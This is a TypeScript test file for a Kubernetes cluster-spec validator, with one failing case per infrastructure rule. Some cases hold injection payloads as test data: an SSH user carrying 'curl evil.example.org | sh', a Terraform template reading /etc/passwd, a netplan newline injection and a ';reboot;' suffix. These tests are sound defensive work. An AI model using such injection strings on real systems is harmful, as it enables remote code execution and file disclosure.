/** The node layer's rule table: one failing test per rule, each breaking exactly that rule. */
import { ClusterSpec } from '../../lib/fleet/cluster-spec';
import { apiHostOf, INFRASTRUCTURE_RULES, poolAddresses, validateInfrastructure } from '../../lib/nodes/infrastructure';
import { e2xSpec, ethTeachingSpec, openstackOf, TestSpec, vsphereOf } from './fixtures';

function broken(spec: TestSpec): string[] {
  return validateInfrastructure(spec as ClusterSpec).map((i) => i.rule);
}

const CASES: { rule: string; what: string; base: () => TestSpec; breakIt: (s: TestSpec) => void }[] = [
  {
    rule: 'infra-vsphere-fields',
    what: 'on a vCenter given as a URL',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).vcenter = 'https://vcenter.example-university.ch/ui'),
  },
  {
    rule: 'infra-vsphere-folder',
    what: 'on an absolute VM folder',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).folder = '/DC-Teaching/vm/hubfleet'),
  },
  {
    rule: 'infra-vsphere-datastores',
    what: 'on a datastore override for a pool that does not exist',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).datastores = { etdc: 'teaching-nvme01' }),
  },
  {
    rule: 'infra-vsphere-gpu-passthrough',
    what: 'on a GPU pool with fewer device lists than VMs',
    base: ethTeachingSpec,
    breakIt: (s) => void ((vsphereOf(s) as any).pciPassthrough = { gpu: [['0000:3b:00.0', '0000:d8:00.0']] }),
  },
  {
    rule: 'infra-openstack-fields',
    what: 'on a Keystone URL without a scheme',
    base: e2xSpec,
    breakIt: (s) => void (openstackOf(s).authUrl = 'keystone.cloud.example-hbrs.de:5000/v3'),
  },
  {
    rule: 'infra-openstack-flavors',
    what: 'on a pool without an OpenStack flavor',
    base: e2xSpec,
    breakIt: (s) => void delete openstackOf(s).flavors.worker,
  },
  {
    rule: 'infra-openstack-unknown-pools',
    what: 'on a flavor for a pool that does not exist',
    base: e2xSpec,
    breakIt: (s) => void (openstackOf(s).flavors.workers = 'c8.r32'),
  },
  {
    rule: 'infra-openstack-subnet',
    what: 'on fixed addresses on OpenStack without a subnet',
    base: e2xSpec,
    breakIt: (s) => void delete openstackOf(s).subnet,
  },
  {
    rule: 'infra-openstack-admin-cidrs',
    what: 'on an admin CIDR that does not parse',
    base: e2xSpec,
    breakIt: (s) => void (openstackOf(s).adminCidrs = ['10.30.0.1/24']),
  },
  {
    rule: 'infra-addresses-pools',
    what: 'on fixed addressing that leaves a pool without a first address',
    base: ethTeachingSpec,
    breakIt: (s) => void delete vsphereOf(s).addressing!.firstAddress.worker,
  },
  {
    rule: 'infra-addresses-in-node-cidr',
    what: 'on node addresses outside the node network',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).addressing!.firstAddress.worker = '10.20.4.31'),
  },
  {
    rule: 'infra-addresses-unique',
    what: 'on pool address ranges that overlap',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).addressing!.firstAddress.cp = '10.20.0.12'),
  },
  {
    rule: 'infra-vsphere-gateway',
    what: 'on fixed addressing on vSphere without a gateway',
    base: ethTeachingSpec,
    breakIt: (s) => void delete vsphereOf(s).addressing!.gateway,
  },
  {
    rule: 'infra-kubespray-addresses',
    what: 'on a Kubespray cluster without fixed addresses',
    base: e2xSpec,
    breakIt: (s) => void delete openstackOf(s).addressing,
  },
  {
    rule: 'infra-kubespray-ssh',
    what: 'on a Kubespray cluster on vSphere without SSH keys',
    base: ethTeachingSpec,
    breakIt: (s) => {
      s.kubernetes = { distribution: 'kubespray', version: 'v1.35.4' };
      vsphereOf(s).sshAuthorizedKeys = [];
    },
  },
  {
    rule: 'infra-api-host',
    what: 'on an API host given as a URL',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).apiHost = 'https://k8s-api.teaching.example-university.ch:6443'),
  },
  {
    rule: 'infra-terraform-literals',
    what: 'on a vSphere name that Terraform would run as a template (reading a file of the machine that applies)',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).folder = 'teaching/${file("/etc/passwd")}'),
  },
  {
    rule: 'infra-ssh-user',
    what: 'on an SSH user that is no user name (cloud-init and Kubespray would use it as one)',
    base: ethTeachingSpec,
    breakIt: (s) => void ((s.infrastructure as { sshUser?: string }).sshUser = 'root; curl evil.example.org | sh'),
  },
  {
    rule: 'infra-search-domains',
    what: 'on a search domain that is no domain (netplan)',
    base: ethTeachingSpec,
    breakIt: (s) => void ((s.infrastructure as any).addressing = { ...(s.infrastructure as any).addressing, searchDomains: ['teaching.example.org\n  - evil'] }),
  },
  {
    rule: 'infra-ssh-keys',
    what: 'on a private key among the SSH keys',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).sshAuthorizedKeys = ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----']),
  },
  {
    rule: 'infra-backend-local',
    what: 'on an absolute local state path',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).backend = { type: 'local', path: '/var/lib/terraform/eth-teaching.tfstate' }),
  },
  {
    rule: 'infra-backend-local',
    what: 'on a local state path inside the output folder (synth would replace it, Git would commit it)',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).backend = { type: 'local', path: '../../eth-teaching.tfstate' }),
  },
  {
    rule: 'infra-backend-remote',
    what: 'on an http backend URL with credentials in it',
    base: ethTeachingSpec,
    breakIt: (s) =>
      void (vsphereOf(s).backend = { type: 'http', address: 'https://ci:glpat-secret@git.example-university.ch/api/v4/projects/7/terraform/state/eth' }),
  },
  {
    rule: 'infra-node-names',
    what: 'on VM names longer than 63 characters',
    base: ethTeachingSpec,
    breakIt: (s) => {
      const long = 'worker-pool-for-the-introduction-to-programming-lab';
      s.nodePools.find((p) => p.name === 'worker')!.name = long;
      const a = vsphereOf(s).addressing!.firstAddress;
      a[long] = a.worker!;
      delete a.worker;
    },
  },
  {
    rule: 'infra-version-distribution',
    what: 'on an RKE2 cluster whose version has no +rke2r suffix',
    base: ethTeachingSpec,
    breakIt: (s) => void (s.kubernetes.version = 'v1.35.7'),
  },
  {
    rule: 'infra-rke2-install-source',
    what: 'on an air-gapped artifact folder combined with a download mirror',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).rke2 = { artifactPath: '/opt/rke2-artifacts', artifactUrl: 'https://mirror.example-university.ch/rke2' }),
  },
  {
    rule: 'infra-rke2-registries',
    what: 'on a registry mirror endpoint with credentials in it',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).rke2 = { registryMirrors: { 'docker.io': ['https://bot:secret@registry.example-university.ch'] } }),
  },
  {
    rule: 'infra-rke2-retries',
    what: 'on zero install attempts',
    base: ethTeachingSpec,
    breakIt: (s) => void (vsphereOf(s).rke2 = { installAttempts: 0 }),
  },
];

describe('INFRASTRUCTURE_RULES', () => {
  test('every rule in the table has a failing case here', () => {
    expect([...new Set(CASES.map((c) => c.rule))].sort()).toEqual(INFRASTRUCTURE_RULES.map((r) => r.id).sort());
  });

  test('rule ids are unique and distinct from the ClusterSpec rules', () => {
    const ids = INFRASTRUCTURE_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.every((id) => id.startsWith('infra-'))).toBe(true);
  });

  for (const c of CASES) {
    test(`fails ${c.what} [${c.rule}]`, () => {
      const spec = c.base();
      expect(broken(spec)).toEqual([]);
      c.breakIt(spec);
      expect(broken(spec)).toEqual([c.rule]);
      const issue = validateInfrastructure(spec as ClusterSpec)[0]!;
      expect(issue.fix.length).toBeGreaterThan(0);
      expect(issue.message.length).toBeGreaterThan(0);
    });
  }

  test('a spec without infrastructure has no infrastructure issues', () => {
    const spec = ethTeachingSpec();
    delete spec.infrastructure;
    expect(broken(spec)).toEqual([]);
  });

  test('the private key never appears in the issue it causes', () => {
    const spec = ethTeachingSpec();
    vsphereOf(spec).sshAuthorizedKeys = ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAsecretsecretsecret\n-----END'];
    const issue = validateInfrastructure(spec as ClusterSpec)[0]!;
    expect(JSON.stringify(issue.value)).not.toContain('secretsecret');
  });
});

describe('versions the distribution can install [infra-version-distribution]', () => {
  const cases: [string, () => TestSpec, string, RegExp][] = [
    ['an RKE2 release hubfleet has not seen', ethTeachingSpec, 'v1.35.9+rke2r1', /not an RKE2 release hubfleet knows \(known 1\.35 releases: .*v1\.35\.7\+rke2r1/],
    ['a Kubespray version with an RKE2 suffix', e2xSpec, 'v1.35.4+rke2r1', /Kubespray versions have no build suffix: write v1\.35\.4/],
    ['a patch newer than Kubespray v2.31.0 has checksums for', e2xSpec, 'v1.35.5', /Kubespray v2\.31\.0 has checksums for 1\.35\.0–1\.35\.4 only/],
    ['a supported minor no Kubespray release installs yet', e2xSpec, 'v1.36.0', /does not install Kubernetes 1\.36/],
  ];
  for (const [what, base, version, message] of cases) {
    test(`fails on ${what} (${version})`, () => {
      const spec = base();
      spec.kubernetes.version = version;
      const issues = validateInfrastructure(spec as ClusterSpec);
      expect(issues.map((i) => i.rule)).toEqual(['infra-version-distribution']);
      expect(issues[0]!.message).toMatch(message);
    });
  }

  test('accepts every RKE2 release in the table and every Kubespray patch v2.31.0 installs', () => {
    for (const v of ['v1.35.0+rke2r1', 'v1.35.7+rke2r1', 'v1.36.3+rke2r1']) {
      const s = ethTeachingSpec();
      s.kubernetes.version = v;
      expect(broken(s)).toEqual([]);
    }
    for (const v of ['v1.35.0', 'v1.35.4']) {
      const s = e2xSpec();
      s.kubernetes.version = v;
      expect(broken(s)).toEqual([]);
    }
  });
});

describe('RKE2 install settings', () => {
  test('accept a mirror, an air-gapped folder, registries and retries', () => {
    const mirror = ethTeachingSpec();
    vsphereOf(mirror).rke2 = {
      scriptUrl: 'https://mirror.example-university.ch/rke2/install.sh',
      artifactUrl: 'https://mirror.example-university.ch/rke2/releases',
      systemDefaultRegistry: 'registry.example-university.ch:5000',
      registryMirrors: { 'docker.io': ['https://registry.example-university.ch:5000'], '*': ['http://10.20.0.9:5000'] },
      installAttempts: 8,
      retryDelaySeconds: 30,
    };
    expect(broken(mirror)).toEqual([]);
    const airgap = ethTeachingSpec();
    vsphereOf(airgap).rke2 = { artifactPath: '/opt/rke2-artifacts' };
    expect(broken(airgap)).toEqual([]);
  });

  test('fail on a Kubespray cluster, a relative or unsafe folder, an http script URL', () => {
    const bad: [() => TestSpec, object][] = [
      [e2xSpec, { scriptUrl: 'https://mirror.example-hbrs.de/install.sh' }],
      [ethTeachingSpec, { artifactPath: 'opt/rke2' }],
      [ethTeachingSpec, { artifactPath: '/opt/rke2 artifacts' }],
      [ethTeachingSpec, { artifactPath: '/opt/../etc' }],
      [ethTeachingSpec, { scriptUrl: 'http://mirror.example-university.ch/install.sh' }],
      [ethTeachingSpec, { scriptUrl: "https://mirror.example-university.ch/install.sh';reboot;'" }],
    ];
    for (const [base, rke2] of bad) {
      const s = base();
      (s.infrastructure as { rke2?: object }).rke2 = rke2;
      expect(broken(s)).toEqual(['infra-rke2-install-source']);
    }
  });
});

describe('address helpers', () => {
  test('each pool takes consecutive addresses from its own first address', () => {
    const spec = ethTeachingSpec() as ClusterSpec;
    const worker = spec.nodePools.find((p) => p.name === 'worker')!;
    expect(poolAddresses(spec, worker)).toEqual(Array.from({ length: 8 }, (_, i) => `10.20.0.${31 + i}`));
  });

  test('DHCP pools have no fixed addresses', () => {
    const spec = ethTeachingSpec();
    delete vsphereOf(spec).addressing;
    expect(poolAddresses(spec as ClusterSpec, spec.nodePools[0]!)).toBeUndefined();
  });

  test('the API host defaults to api.<domain>', () => {
    const spec = ethTeachingSpec();
    delete vsphereOf(spec).apiHost;
    expect(apiHostOf(spec as ClusterSpec)).toBe('api.teaching.example-university.ch');
  });
});
